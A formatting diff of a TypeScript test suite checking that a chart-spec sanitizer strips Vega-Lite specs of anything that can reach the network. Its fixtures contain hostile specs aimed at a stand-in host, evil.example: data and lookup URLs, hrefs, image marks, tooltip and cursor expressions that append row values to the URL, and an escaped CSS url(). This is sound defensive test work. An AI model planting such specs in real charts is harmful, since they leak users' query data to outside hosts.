@@ -50,8 +50,14 @@ function callingOut(chart: Record<string, unknown>): string[] {
     if (key === 'url' || key === 'href') found.push(`${key}: ${JSON.stringify(value)}`);
     if (key === 'datasets' || key === 'usermeta' || key === 'signals' || key === 'tooltip') found.push(key);
     if (key === 'data' && parent !== chart) found.push(`nested data ${JSON.stringify(value)}`);
-    if (key === 'mark' && (value === 'image' || (typeof value === 'object' && value !== null && (value as { type?: unknown }).type === 'image'))) found.push('an image mark');
-    if (key === 'cursor' && !(typeof value === 'string' && /^[a-z-]+$/.test(value))) found.push(`cursor ${JSON.stringify(value)}`);
+    if (
+      key === 'mark' &&
+      (value === 'image' ||
+        (typeof value === 'object' && value !== null && (value as { type?: unknown }).type === 'image'))
+    )
+      found.push('an image mark');
+    if (key === 'cursor' && !(typeof value === 'string' && /^[a-z-]+$/.test(value)))
+      found.push(`cursor ${JSON.stringify(value)}`);
     if (key === 'name' && value === 'cursor') found.push('a parameter named cursor');
     if (key === 'lookup' && typeof parent === 'object' && parent !== null && 'from' in parent) {
       const from = (parent as { from?: unknown }).from;
@@ -66,22 +72,54 @@ describe('sqlChartSpec: nothing in the chart can call out', () => {
   it.each([
     ['the top data, a URL', { data: { url: `${EVIL}/data.json` }, mark: 'bar' }],
     ['a named data set', { datasets: { stolen: [{ a: 1 }] }, data: { name: 'stolen' }, mark: 'bar' }],
-    ['a layer’s data, a URL', { layer: [{ mark: 'bar' }, { data: { url: `${EVIL}/layer.csv`, format: { type: 'csv' } }, mark: 'point' }] }],
-    ['a lookup’s data, a URL', { transform: [{ lookup: 'region', from: { data: { url: `${EVIL}/lookup.json` }, key: 'region', fields: ['x'] } }], mark: 'bar' }],
-    ['a projection’s shapes, a URL', { layer: [{ data: { url: `${EVIL}/world.json`, format: { type: 'topojson', feature: 'countries' } }, mark: 'geoshape' }, { mark: 'bar' }] }],
+    [
+      'a layer’s data, a URL',
+      { layer: [{ mark: 'bar' }, { data: { url: `${EVIL}/layer.csv`, format: { type: 'csv' } }, mark: 'point' }] },
+    ],
+    [
+      'a lookup’s data, a URL',
+      {
+        transform: [{ lookup: 'region', from: { data: { url: `${EVIL}/lookup.json` }, key: 'region', fields: ['x'] } }],
+        mark: 'bar',
+      },
+    ],
+    [
+      'a projection’s shapes, a URL',
+      {
+        layer: [
+          { data: { url: `${EVIL}/world.json`, format: { type: 'topojson', feature: 'countries' } }, mark: 'geoshape' },
+          { mark: 'bar' },
+        ],
+      },
+    ],
     ['an href channel', { mark: 'bar', encoding: { ...bars, href: { field: 'region' } } }],
     ['an href on the mark', { mark: { type: 'bar', href: `${EVIL}/go` } }],
-    ['an href in config', { mark: 'bar', config: { mark: { href: `${EVIL}/go` }, style: { evil: { href: `${EVIL}/style` } } } }],
+    [
+      'an href in config',
+      { mark: 'bar', config: { mark: { href: `${EVIL}/go` }, style: { evil: { href: `${EVIL}/style` } } } },
+    ],
     ['a url channel', { mark: 'bar', encoding: { ...bars, url: { value: `${EVIL}/x.png` } } }],
-    ['usermeta (vega-embed’s options)', { mark: 'bar', usermeta: { embedOptions: { ast: false, loader: { baseURL: EVIL } } } }],
+    [
+      'usermeta (vega-embed’s options)',
+      { mark: 'bar', usermeta: { embedOptions: { ast: false, loader: { baseURL: EVIL } } } },
+    ],
     [
       'a tooltip (an image entry is drawn as <img>)',
-      { mark: { type: 'bar', tooltip: { expr: `{image: '${EVIL}/?' + datum.revenue}` } }, encoding: { ...bars, tooltip: [{ field: 'region' }] } },
+      {
+        mark: { type: 'bar', tooltip: { expr: `{image: '${EVIL}/?' + datum.revenue}` } },
+        encoding: { ...bars, tooltip: [{ field: 'region' }] },
+      },
     ],
     ['a cursor of a URL', { mark: { type: 'bar', cursor: `url(${EVIL}/c.png), auto` } }],
-    ['a cursor from an expression', { mark: { type: 'bar', cursor: { expr: `'url(${EVIL}/' + datum.revenue + ')'` } } }],
+    [
+      'a cursor from an expression',
+      { mark: { type: 'bar', cursor: { expr: `'url(${EVIL}/' + datum.revenue + ')'` } } },
+    ],
     ['a parameter named cursor', { mark: 'bar', params: [{ name: 'cursor', value: `url(${EVIL}/c.png), auto` }] }],
-    ['Vega signals through config', { mark: 'bar', config: { signals: [{ name: 'cursor', value: `url(${EVIL}/c.png)` }] } }],
+    [
+      'Vega signals through config',
+      { mark: 'bar', config: { signals: [{ name: 'cursor', value: `url(${EVIL}/c.png)` }] } },
+    ],
     ['a fill of a CSS url, escaped', { mark: { type: 'bar', fill: 'u\\72 l(https://evil.example/f.svg#p)' } }],
   ])('leaves out %s', (_label, spec) => {
     const chart = chartOf(spec)!;
@@ -93,10 +131,23 @@ describe('sqlChartSpec: nothing in the chart can call out', () => {
 
   it('leaves out image marks at any depth; a spec of images alone is no chart', () => {
     const image = { mark: { type: 'image', url: `${EVIL}/a.png` }, encoding: { url: { field: 'region' } } };
-    const chart = chartOf({ vconcat: [{ layer: [{ mark: 'bar', encoding: bars }, image] }, image, { facet: { field: 'region' }, spec: { layer: [image] } }] })!;
-    expect(chart.vconcat).toEqual([{ layer: [{ mark: 'bar', encoding: bars }] }, { facet: { field: 'region' }, spec: { layer: [] } }]);
+    const chart = chartOf({
+      vconcat: [
+        { layer: [{ mark: 'bar', encoding: bars }, image] },
+        image,
+        { facet: { field: 'region' }, spec: { layer: [image] } },
+      ],
+    })!;
+    expect(chart.vconcat).toEqual([
+      { layer: [{ mark: 'bar', encoding: bars }] },
+      { facet: { field: 'region' }, spec: { layer: [] } },
+    ]);
     // A facet or a repeat of images alone is left out with its spec.
-    expect(chartOf({ hconcat: [{ mark: 'bar' }, { facet: { field: 'region' }, spec: image }, { repeat: ['revenue'], spec: image }] })!.hconcat).toEqual([{ mark: 'bar' }]);
+    expect(
+      chartOf({
+        hconcat: [{ mark: 'bar' }, { facet: { field: 'region' }, spec: image }, { repeat: ['revenue'], spec: image }],
+      })!.hconcat,
+    ).toEqual([{ mark: 'bar' }]);
     expect(chartOf(image)).toBeUndefined();
     expect(chartOf({ mark: 'Image' })).toBeUndefined();
   });
@@ -115,12 +166,21 @@ describe('sqlChartSpec: nothing in the chart can call out', () => {
   });
 
   it('leaves out a $schema other than Vega-Lite’s: vega-embed would draw the spec as Vega', () => {
-    expect(chartOf({ $schema: 'https://vega.github.io/schema/vega/v5.json', mark: 'bar' })).toEqual({ mark: 'bar', data: { values: ROWS } });
-    expect(chartOf({ $schema: `${EVIL}/vega-lite/v5.json`, mark: 'bar' })).toEqual({ mark: 'bar', data: { values: ROWS } });
+    expect(chartOf({ $schema: 'https://vega.github.io/schema/vega/v5.json', mark: 'bar' })).toEqual({
+      mark: 'bar',
+      data: { values: ROWS },
+    });
+    expect(chartOf({ $schema: `${EVIL}/vega-lite/v5.json`, mark: 'bar' })).toEqual({
+      mark: 'bar',
+      data: { values: ROWS },
+    });
   });
 
   it('merges the caller’s config last, over what is left of the spec’s', () => {
-    const chart = chartOf({ mark: 'bar', config: { mark: { href: `${EVIL}/x`, color: 'red' }, signals: [] } }, { mark: { color: 'blue' }, background: 'transparent' })!;
+    const chart = chartOf(
+      { mark: 'bar', config: { mark: { href: `${EVIL}/x`, color: 'red' }, signals: [] } },
+      { mark: { color: 'blue' }, background: 'transparent' },
+    )!;
     expect(chart.config).toEqual({ mark: { color: 'blue' }, background: 'transparent' });
   });
 
@@ -167,7 +227,18 @@ const KEYS = [
   '__proto__',
   'embedOptions',
 ];
-const HOSTILE_STRINGS = ['image', 'Image', `${EVIL}/x`, `url(${EVIL}/x)`, 'URL (x)', 'u\\72l(x)', 'pointer', 'cursor', 'bar', 'https://vega.github.io/schema/vega/v5.json'];
+const HOSTILE_STRINGS = [
+  'image',
+  'Image',
+  `${EVIL}/x`,
+  `url(${EVIL}/x)`,
+  'URL (x)',
+  'u\\72l(x)',
+  'pointer',
+  'cursor',
+  'bar',
+  'https://vega.github.io/schema/vega/v5.json',
+];
 
 const hostileSpec = fc.letrec<{ value: unknown; object: Record<string, unknown> }>((tie) => ({
   value: fc.oneof(
@@ -207,7 +278,8 @@ describe('sqlChartSpec: properties of any hostile spec', () => {
         if (chart === undefined) return;
         expect(sqlChartSpec({ ...RESULT, vegaSpec: JSON.stringify(chart) })).toEqual(chart);
         for (const { value } of entries(chart)) {
-          if (typeof value === 'object' && value !== null) expect([Object.prototype, Array.prototype]).toContain(Object.getPrototypeOf(value));
+          if (typeof value === 'object' && value !== null)
+            expect([Object.prototype, Array.prototype]).toContain(Object.getPrototypeOf(value));
         }
         expect(asJson(spec)).toBe(text);
       }),
@@ -241,7 +313,12 @@ function recordingLoader(): { loader: vega.Loader; requests: string[] } {
 function drawnRows(scene: unknown, found: unknown[] = []): unknown[] {
   if (typeof scene !== 'object' || scene === null) return found;
   const { items, datum } = scene as { items?: unknown[]; datum?: { region?: unknown } };
-  if (datum && typeof datum.region === 'string' && (scene as { mark?: { marktype?: string } }).mark?.marktype === 'rect') found.push(datum);
+  if (
+    datum &&
+    typeof datum.region === 'string' &&
+    (scene as { mark?: { marktype?: string } }).mark?.marktype === 'rect'
+  )
+    found.push(datum);
   for (const item of items ?? []) drawnRows(item, found);
   return found;
 }
@@ -253,7 +330,11 @@ const sceneToJson = (vega as unknown as { sceneToJSON(scene: unknown): string })
 async function draw(chart: Record<string, unknown>) {
   const { loader, requests } = recordingLoader();
   const { spec } = compile(chart as unknown as TopLevelSpec);
-  const view = new vega.View(vega.parse(spec as vega.Spec, undefined, { ast: true }), { loader, renderer: 'none', expr: expressionInterpreter } as never);
+  const view = new vega.View(vega.parse(spec as vega.Spec, undefined, { ast: true }), {
+    loader,
+    renderer: 'none',
+    expr: expressionInterpreter,
+  } as never);
   await view.runAsync();
   const svg = await view.toSVG();
   const root = (view.scenegraph() as unknown as { root: unknown }).root;
@@ -272,7 +353,9 @@ const HOSTILE = {
   config: { mark: { href: `${EVIL}/config-href` }, signals: [{ name: 'leak', value: `${EVIL}/config-signal` }] },
   vconcat: [
     {
-      transform: [{ lookup: 'region', from: { data: { url: `${EVIL}/lookup.json` }, key: 'region', fields: ['extra'] } }],
+      transform: [
+        { lookup: 'region', from: { data: { url: `${EVIL}/lookup.json` }, key: 'region', fields: ['extra'] } },
+      ],
       layer: [
         {
           mark: {
@@ -283,13 +366,25 @@ const HOSTILE = {
           },
           encoding: { ...bars, href: { field: 'region' }, url: { value: `${EVIL}/url-channel` } },
         },
-        { mark: { type: 'image', url: `${EVIL}/image-mark.png`, width: 10, height: 10 }, encoding: { ...bars, url: { value: `${EVIL}/image.png?leak` } } },
+        {
+          mark: { type: 'image', url: `${EVIL}/image-mark.png`, width: 10, height: 10 },
+          encoding: { ...bars, url: { value: `${EVIL}/image.png?leak` } },
+        },
         { data: { url: `${EVIL}/layer.json` }, mark: 'point', encoding: bars },
         { data: { name: 'stolen' }, mark: 'tick', encoding: bars },
       ],
     },
-    { facet: { field: 'region', type: 'nominal' }, spec: { mark: { type: 'image', url: `${EVIL}/facet.png` }, encoding: { url: { field: 'region' } } } },
-    { repeat: ['revenue'], spec: { mark: 'point', encoding: { x: { field: { repeat: 'repeat' }, type: 'quantitative' }, href: { value: `${EVIL}/repeat` } } } },
+    {
+      facet: { field: 'region', type: 'nominal' },
+      spec: { mark: { type: 'image', url: `${EVIL}/facet.png` }, encoding: { url: { field: 'region' } } },
+    },
+    {
+      repeat: ['revenue'],
+      spec: {
+        mark: 'point',
+        encoding: { x: { field: { repeat: 'repeat' }, type: 'quantitative' }, href: { value: `${EVIL}/repeat` } },
+      },
+    },
   ],
 };
 
@@ -301,7 +396,14 @@ describe('sqlChartSpec: drawn by Vega, a hostile spec asks for nothing', () => {
     for (const output of [drawn.svg, drawn.scene, drawn.signals]) expect(output).not.toContain('evil.example');
     expect(drawn.svg).not.toMatch(/href=/);
     // The bars and the ticks, of the result's rows and no others (not the spec's own data set).
-    expect(drawn.rows.map((row) => (row as { region: string }).region)).toEqual(['EU', 'US', 'APAC', 'EU', 'US', 'APAC']);
+    expect(drawn.rows.map((row) => (row as { region: string }).region)).toEqual([
+      'EU',
+      'US',
+      'APAC',
+      'EU',
+      'US',
+      'APAC',
+    ]);
   });
 
   it.each([
